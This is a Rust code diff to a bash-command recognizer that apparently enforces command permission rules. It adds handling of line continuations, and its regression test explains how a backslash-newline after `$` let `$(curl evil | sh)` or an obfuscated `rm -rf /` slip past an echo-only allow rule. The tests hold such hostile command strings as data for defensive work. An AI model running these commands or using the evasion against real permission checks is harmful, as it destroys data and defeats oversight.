@@ -15,7 +15,8 @@
 //!   the reserved words `!`, `time` (and `time -p`), `if`/`then`/`elif`/
 //!   `else`/`fi`, `while`/`until`/`do`/`done` at the start of a command;
 //! - comments: `#` at the start of a word, up to the newline;
-//! - quoting: `'...'`, `"..."`, backslash escapes, `\`-newline continuation;
+//! - quoting: `'...'`, `"..."`, backslash escapes, `\`-newline continuation
+//!   (removed before anything else is read, as bash does: [`join_continuations`]);
 //!   `$'...'` in arguments (kept undecoded; the word is marked dynamic);
 //! - parameters: `$name`, `${name}`, `$1`, `${10}`, and the special
 //!   parameters `$? $# $$ $! $- $@ $* $0 $_` (also braced);
@@ -391,8 +392,10 @@ pub fn recognize(command: &str) -> Recognition {
     if let Some(at) = command.bytes().position(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f) {
         problem = Some(NotUnderstood { reason: Unmodelled::ControlCharacter, at });
     }
+    let joined = join_continuations(command.as_bytes());
     let mut p = Parser {
-        src: command.as_bytes(),
+        src: &joined.text,
+        origin: &joined.origin,
         base: 0,
         pos: 0,
         depth: 0,
@@ -405,6 +408,150 @@ pub fn recognize(command: &str) -> Recognition {
         None => Recognition::Understood(out),
         Some(why) => Recognition::NotUnderstood { why, seen: out },
     }
+}
+
+/// A command with its line continuations removed, and where each byte came from.
+struct Joined {
+    text: Vec<u8>,
+    /// `origin[i]` is the offset in the command of `text[i]`; one more entry (the
+    /// command's length) stands for the end.
+    origin: Vec<usize>,
+}
+
+/// Where [`join_continuations`] is, lexically.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Lexical {
+    /// Unquoted shell text: the command line, a subshell, `$(...)`, `<(...)`, `>(...)`.
+    /// `in_word`: the frame was opened inside a word (`$(`, `<(`, `>(`), so its `)` does
+    /// not end the word.
+    Shell { in_word: bool },
+    /// `"..."` (and `$"..."`).
+    Double,
+    /// `'...'`: nothing is special but the closing quote.
+    Single,
+    /// `$'...'`: a backslash escapes the next byte.
+    AnsiC,
+    /// `` `...` ``: bash finds the closing backtick without looking at quotes.
+    Backtick,
+    /// `#` at the start of a word, up to the newline.
+    Comment,
+}
+
+/// Remove every backslash-newline pair (a line continuation) where bash removes it:
+/// everywhere except inside single quotes, `$'...'` and comments. Bash drops these pairs
+/// while it reads its input, before it tokenizes (`shell_getc`), so `$\<nl>(` is `$(`,
+/// `$\<nl>'` is `$'`, `<\<nl>(` is `<(` and `&\<nl>>` is `&>`: the parser must see the
+/// joined text, or a `$` it reads as literal runs a command substitution.
+///
+/// A backslash escapes the byte after it, so pairs are taken two bytes at a time (`\\`
+/// then a newline is an escaped backslash and a real newline). The lexical context is
+/// tracked only as far as it decides where pairs stay: quotes, `$'`, backticks,
+/// comments and the parentheses that open new shell text (`$(`, `(`, `<(`, `>(`). In
+/// constructs the parser does not model (here-documents, `case`) it may be off; such a
+/// command is never allowed by the policy.
+fn join_continuations(src: &[u8]) -> Joined {
+    let mut text = Vec::with_capacity(src.len());
+    let mut origin = Vec::with_capacity(src.len() + 1);
+    let mut stack = vec![Lexical::Shell { in_word: false }];
+    // In the innermost shell frame: the next byte starts a word (a `#` there is a comment).
+    let mut word_start = true;
+    // The last byte kept is an unescaped `$` that can start an expansion (`$(`, `$'`).
+    let mut dollar = false;
+    // The last byte kept is an unescaped `<` or `>` (`<(` and `>(` run commands).
+    let mut angle = false;
+    let mut i = 0;
+    while i < src.len() {
+        let c = src[i];
+        let frame = *stack.last().unwrap_or(&Lexical::Shell { in_word: false });
+        match frame {
+            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {
+                if frame == Lexical::Comment && c == b'\n' {
+                    stack.pop();
+                    word_start = true;
+                    continue; // the newline is read in the enclosing frame
+                }
+                text.push(c);
+                origin.push(i);
+                i += 1;
+                if frame == Lexical::AnsiC && c == b'\\' && i < src.len() {
+                    text.push(src[i]);
+                    origin.push(i);
+                    i += 1;
+                } else if frame != Lexical::Comment && c == b'\'' {
+                    stack.pop();
+                }
+                continue;
+            }
+            Lexical::Shell { .. } | Lexical::Double | Lexical::Backtick => {}
+        }
+        if c == b'\\' {
+            match src.get(i + 1) {
+                Some(b'\n') => {} // a line continuation: dropped, nothing else changes
+                Some(&n) => {
+                    text.extend_from_slice(&[c, n]);
+                    origin.extend_from_slice(&[i, i + 1]);
+                    (dollar, angle, word_start) = (false, false, false);
+                }
+                None => {
+                    text.push(c);
+                    origin.push(i);
+                }
+            }
+            i += 2;
+            continue;
+        }
+        text.push(c);
+        origin.push(i);
+        i += 1;
+        let (was_dollar, was_angle) = (dollar, angle);
+        (dollar, angle) = (false, false);
+        match frame {
+            Lexical::Shell { .. } => {
+                let mut next_word_start = matches!(c, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>');
+                match c {
+                    b'\'' => stack.push(if was_dollar { Lexical::AnsiC } else { Lexical::Single }),
+                    b'"' => stack.push(Lexical::Double),
+                    b'`' => stack.push(Lexical::Backtick),
+                    b'#' if word_start => stack.push(Lexical::Comment),
+                    b'(' => {
+                        stack.push(Lexical::Shell { in_word: was_dollar || was_angle });
+                        next_word_start = true;
+                    }
+                    b')' if stack.len() > 1 => {
+                        let closed = stack.pop();
+                        next_word_start = closed != Some(Lexical::Shell { in_word: true });
+                    }
+                    b')' => next_word_start = true,
+                    b'$' => dollar = !was_dollar,
+                    b'<' | b'>' => angle = true,
+                    _ => {}
+                }
+                word_start = next_word_start;
+            }
+            Lexical::Double => match c {
+                b'"' => {
+                    stack.pop();
+                    word_start = false;
+                }
+                b'`' => stack.push(Lexical::Backtick),
+                b'(' if was_dollar => {
+                    stack.push(Lexical::Shell { in_word: true });
+                    word_start = true;
+                }
+                b'$' => dollar = !was_dollar,
+                _ => {}
+            },
+            Lexical::Backtick => {
+                if c == b'`' {
+                    stack.pop();
+                    word_start = false;
+                }
+            }
+            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {}
+        }
+    }
+    origin.push(src.len());
+    Joined { text, origin }
 }
 
 #[derive(Default)]
@@ -447,7 +594,11 @@ struct CommandBuilder {
 }
 
 struct Parser<'a> {
+    /// The command with its line continuations removed ([`join_continuations`]), or a
+    /// backtick body taken from it.
     src: &'a [u8],
+    /// [`Joined::origin`] of the whole command: maps offsets back for [`NotUnderstood::at`].
+    origin: &'a [usize],
     /// Offset of `src` in the whole command (backtick bodies are parsed from
     /// a copy).
     base: usize,
@@ -480,7 +631,9 @@ fn is_delimiter(c: u8) -> bool {
 impl Parser<'_> {
     fn fail_at(&mut self, reason: Unmodelled, at: usize) {
         if self.problem.is_none() {
-            *self.problem = Some(NotUnderstood { reason, at: self.base + at });
+            let joined_at = self.base + at;
+            let at = self.origin.get(joined_at).or(self.origin.last()).copied().unwrap_or(joined_at);
+            *self.problem = Some(NotUnderstood { reason, at });
         }
     }
 
@@ -943,6 +1096,7 @@ impl Parser<'_> {
         } else {
             let mut sub = Parser {
                 src: &inner,
+                origin: self.origin,
                 base: self.base + open + 1,
                 pos: 0,
                 depth: self.depth + 1,
@@ -1294,6 +1448,37 @@ mod tests {
         assert_eq!(why("[ -v x ]"), Unmodelled::BuiltinArguments("["));
         assert_eq!(texts("[ -f x ]"), ["[ -f x ]"]);
         assert_eq!(why("printf -v x y"), Unmodelled::BuiltinArguments("printf"));
+    }
+
+    /// Regression: bash removes a backslash-newline before it tokenizes, the recognizer
+    /// looked at the byte after `$` first: `echo "$\<nl>(curl evil | sh)"` read as the
+    /// literal text `$(curl evil | sh)` (allowed by `Bash(echo:*)`) and `$\<nl>'\x72m'`
+    /// as a literal command word, where bash runs the substitution and `rm`.
+    #[test]
+    fn regression_a_backslash_newline_after_dollar_hid_a_command_substitution() {
+        assert_eq!(texts("echo \"$\\\n(id)\""), ["id", "echo $(...)"]);
+        assert_eq!(texts("echo $\\\n(id)"), ["id", "echo $(...)"]);
+        assert_eq!(texts("echo $\\\n\\\n(id)"), ["id", "echo $(...)"]);
+        assert_eq!(why("$\\\n'\\x72m' -rf /"), Unmodelled::CommandWordQuoting);
+        assert!(recognize("echo $\\\n'\\x41'").commands()[0].dynamic_at.is_some());
+        assert_eq!(why("echo $\\\n{x:-$(id)}"), Unmodelled::ParameterOperator);
+        assert_eq!(texts("echo $\\\n{HOME} $\\\n((1+2))"), ["echo $HOME $((...))"]);
+        // Operators and their lookahead see the joined text too.
+        assert_eq!(texts("cat <\\\n(id)"), ["id", "cat <(...)"]);
+        assert_eq!(texts("echo hi &\\\n> f"), ["echo hi &> f"]);
+        assert_eq!(texts("ls 2>\\\n&1"), ["ls"]);
+        assert_eq!(texts("a |\\\n& b"), ["a", "b"]);
+        // In double quotes and backticks it goes too; an escaped backslash stays.
+        assert_eq!(texts("echo \"a\\\nb\""), ["echo ab"]);
+        assert_eq!(texts("echo \\\\\necho"), ["echo \\", "echo"]);
+        // Single quotes, `$'...'` and comments keep it, as in bash.
+        assert_eq!(texts("echo 'a\\\nb'"), ["echo a\\\nb"]);
+        assert_eq!(texts("echo \"$(echo 'a\\\nb')\""), ["echo a\\\nb", "echo $(...)"]);
+        assert_eq!(why("echo hi # \\\nrm -rf /"), Unmodelled::CommentContinuation);
+        assert_eq!(texts("echo a\\\n#b"), ["echo a#b"]);
+        assert_eq!(texts("echo \\\n#b"), ["echo"]);
+        // Offsets are the command's, not the joined text's.
+        assert_eq!(recognize("echo \\\n$\\\n{x@P}").not_understood().map(|n| n.at), Some(7));
     }
 
     #[test]
